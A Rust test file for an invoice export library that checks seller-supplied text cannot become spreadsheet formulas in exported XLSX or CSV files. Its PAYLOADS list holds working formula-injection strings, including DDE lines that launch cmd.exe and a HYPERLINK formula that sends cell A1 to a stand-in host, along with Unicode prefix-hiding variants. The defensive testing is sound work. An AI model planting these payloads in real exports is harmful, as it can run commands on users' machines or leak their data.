//! What a seller writes into an invoice never becomes a formula on the buyer's computer.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test may panic")]

mod common;

use std::fs::File;
use std::io::{BufReader, Read};

use calamine::{DataRef, Reader, Xlsx};
use common::{Ledger, go_on, invoice, lines_table, request, table};
use piaoxia_domain::invoice::Invoice;
use piaoxia_export::{Column, Encoding, LineColumn, Output, export};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;

const PAYLOADS: [&str; 62] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/?a=\"&A1,\"点此\")",
    "=WEBSERVICE(\"http://x\")",
    "=IMPORTXML(\"http://x\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(1,2)*cmd|' /C notepad'!A0",
    "=EXEC(\"calc\")",
    "=CALL(\"urlmon\",\"x\")",
    "=REGISTER.ID(\"a\",\"b\")",
    "={1,2}",
    "==1",
    "=",
    "=\"a\"",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "++1",
    "+",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "--1",
    "-",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)",
    "@cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\t1",
    "\tcmd",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\n-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u{3000}＝1+1",
    " =1+1",
    "   +1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{202e}=1+1",
    "\u{2060}@x",
    "\"=1+1",
    "\"\"=1+1",
    "'=1+1",
    "''=1+1",
    "“=1+1",
    "＂=1+1",
    " \" =1+1",
    "\u{0}=1+1",
    "\u{1b}=1+1",
    "﹦1+1",
    "−1+1",
    BREAKING_OUT,
    "\"\r\n=1+1",
];
const BREAKING_OUT: &str = "\",=1+1,\"";

fn hostile() -> Vec<Invoice> {
    let poisoned = |payload: &&str| {
        let text = (*payload).to_owned();
        let mut invoice = invoice(7);
        for field in [
            &mut invoice.seller.name,
            &mut invoice.buyer.name,
            &mut invoice.risk,
            &mut invoice.source,
            &mut invoice.drawer,
            &mut invoice.remark,
        ] {
            field.clone_from(&text);
        }
        for line in &mut invoice.lines {
            (line.name, line.spec, line.unit, line.rate, line.class_code) =
                (text.clone(), text.clone(), text.clone(), text.clone(), text.clone());
        }
        invoice
    };
    PAYLOADS.iter().map(poisoned).collect()
}

/// What every table does to text: one kind of line end, no control characters.
fn cleaned(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n").replace(['\0', '\u{1b}'], "")
}

#[test]
fn a_workbook_holds_no_formula() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a.xlsx");
    let output = Output::Xlsx { table: table(&Column::ALL), lines: Some(lines_table(&LineColumn::DEFAULT)) };
    export(&request(output, &path), &mut Ledger::with(hostile()), &go_on).unwrap();

    let mut archive = zip::ZipArchive::new(File::open(&path).unwrap()).unwrap();
    for name in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
        let mut xml = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut xml).unwrap();
        for forbidden in ["<f>", "<f ", "<hyperlink", "externalReference"] {
            assert!(!xml.contains(forbidden), "{name}: {forbidden}");
        }
    }
    assert!(archive.file_names().all(|name| !name.unwrap().contains("externalLink")));

    let mut book: Xlsx<_> = Xlsx::new(BufReader::new(File::open(&path).unwrap())).unwrap();
    for sheet in book.sheet_names() {
        let mut cells = book.worksheet_cells_reader(&sheet).unwrap();
        while let Some(formula) = cells.next_formula().unwrap() {
            assert_eq!(formula.get_value(), "", "{sheet} {:?}", formula.get_position());
        }
    }
    let name = book.sheet_names()[0].clone();
    let mut cells = book.worksheet_cells_reader(&name).unwrap();
    let mut seen = 0;
    while let Some(cell) = cells.next_cell().unwrap() {
        let (row, column) = cell.get_position();
        let is_payload = (1..=PAYLOADS.len()).contains(&(row as usize)) && [5, 7, 16, 17, 18, 19].contains(&column);
        if is_payload {
            let DataRef::String(text) = cell.get_value() else { panic!("{:?}", cell.get_value()) };
            assert_eq!(*text, cleaned(PAYLOADS[row as usize - 1]));
            seen += 1;
        }
    }
    assert_eq!(seen, PAYLOADS.len() * 6);
}

#[test]
fn csv_holds_no_formula() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a.csv");
    export(&request(Output::Csv(table(&Column::ALL), Encoding::Utf8), &path), &mut Ledger::with(hostile()), &go_on).unwrap();
    let bytes = std::fs::read(&path).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap());
    let mut rows = 0;
    for (record, payload) in reader.records().zip(PAYLOADS) {
        let record = record.unwrap();
        assert_eq!(record.len(), Column::ALL.len());
        for (field, column) in record.iter().zip(Column::ALL) {
            let is_amount = matches!(column, Column::Net | Column::Tax | Column::Gross);
            assert!(is_amount || !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' ']), "{field:?}");
            assert!(!is_amount || field.starts_with('-'), "a red amount stays a number");
        }
        // Quotes that would end the cell are doubled; behind them it is no formula.
        let guard = if payload == BREAKING_OUT { "" } else { "'" };
        assert_eq!(record[19], format!("{guard}{}", cleaned(payload)));
        rows += 1;
    }
    assert_eq!(rows, PAYLOADS.len());
}

/// Invented payloads: what starts a formula behind what hides it, before anything at all.
fn invented(count: usize) -> Vec<String> {
    #[rustfmt::skip]
    let hiding = prop::sample::select(vec!["", " ", "\u{3000}", "\u{a0}", "'", "\"", "“", "\u{200b}", "\u{feff}", "\u{202e}", "\u{1b}", "\t", "\r\n", "_x003D_"]);
    let start = prop::sample::select(vec!["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−", "", "1", "甲", ",", "\"", "\",="]);
    let text =
        (prop::collection::vec(hiding, 0..4), start, any::<String>()).prop_map(|(hiding, start, rest)| hiding.concat() + start + &rest);
    let mut runner = TestRunner::default();
    std::iter::repeat_with(|| text.new_tree(&mut runner).unwrap().current()).take(count).collect()
}

/// Any text survives both tables as text, and the amounts beside it stay the numbers they are.
#[test]
fn invented_texts_are_never_formulas_and_numbers_stay_numbers() {
    let texts = invented(2_000);
    let poisoned = |(text, number): (&String, u64)| {
        let mut invoice = invoice(number);
        invoice.remark.clone_from(text);
        invoice
    };
    let invoices: Vec<Invoice> = texts.iter().zip(0..).map(poisoned).collect();
    let dir = tempfile::tempdir().unwrap();
    let (csv, xlsx) = (dir.path().join("a.csv"), dir.path().join("a.xlsx"));
    let columns = [Column::Remark, Column::Net];
    export(&request(Output::Csv(table(&columns), Encoding::Utf8), &csv), &mut Ledger::with(invoices.clone()), &go_on).unwrap();
    export(&request(Output::Xlsx { table: table(&columns), lines: None }, &xlsx), &mut Ledger::with(invoices.clone()), &go_on).unwrap();

    let bytes = std::fs::read(&csv).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), invoices.len());
    for (record, invoice) in records.iter().zip(&invoices) {
        assert!(!record[0].starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{:?}", &record[0]);
        assert_eq!(record[1], invoice.net.to_string());
    }

    let mut book: Xlsx<_> = Xlsx::new(BufReader::new(File::open(&xlsx).unwrap())).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let mut formulas = book.worksheet_cells_reader(&sheet).unwrap();
    while let Some(formula) = formulas.next_formula().unwrap() {
        assert_eq!(formula.get_value(), "");
    }
    drop(formulas);
    let mut cells = book.worksheet_cells_reader(&sheet).unwrap();
    while let Some(cell) = cells.next_cell().unwrap() {
        let (row, column) = cell.get_position();
        let Some(invoice) = (row as usize).checked_sub(1).and_then(|row| invoices.get(row)) else { continue };
        match (column, cell.get_value()) {
            (0, value) => assert!(matches!(value, DataRef::String(_) | DataRef::SharedString(_)), "{value:?}"),
            (_, DataRef::Float(number)) => assert_eq!(format!("{number:.2}"), invoice.net.to_string()),
            (_, other) => panic!("an amount became {other:?}"),
        }
    }
}
